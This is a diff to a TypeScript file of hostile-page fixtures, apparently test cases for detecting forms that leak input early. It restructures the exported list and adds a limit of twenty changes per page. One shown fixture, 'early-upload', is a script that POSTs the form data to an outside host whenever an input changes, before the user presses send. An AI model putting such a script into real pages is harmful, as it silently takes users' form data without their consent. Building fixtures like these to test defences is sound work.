@@ -2,8 +2,10 @@ import type { HostilePage } from './hostile-page.ts';
 
 const onChange = (send: string) => `form.addEventListener('change', () => { ${send} });`;
 
-/** What leaves before send is pressed, and forms that are another one by then. */
-export const waysOfStartingEarly: HostilePage[] = [
+/** Each change of an input is one more part of the same application. */
+const mostChanges = 20;
+
+const pages: HostilePage[] = [
   {
     name: 'early-upload',
     script: onChange(`fetch(take + '/upload', { method: 'POST', body: data() }).catch(() => 0);`),
@@ -56,3 +58,6 @@ export const waysOfStartingEarly: HostilePage[] = [
     ),
   },
 ];
+
+/** What leaves before send is pressed, and forms that are another one by then. */
+export const waysOfStartingEarly: HostilePage[] = pages.map((page) => ({ ...page, parts: mostChanges }));
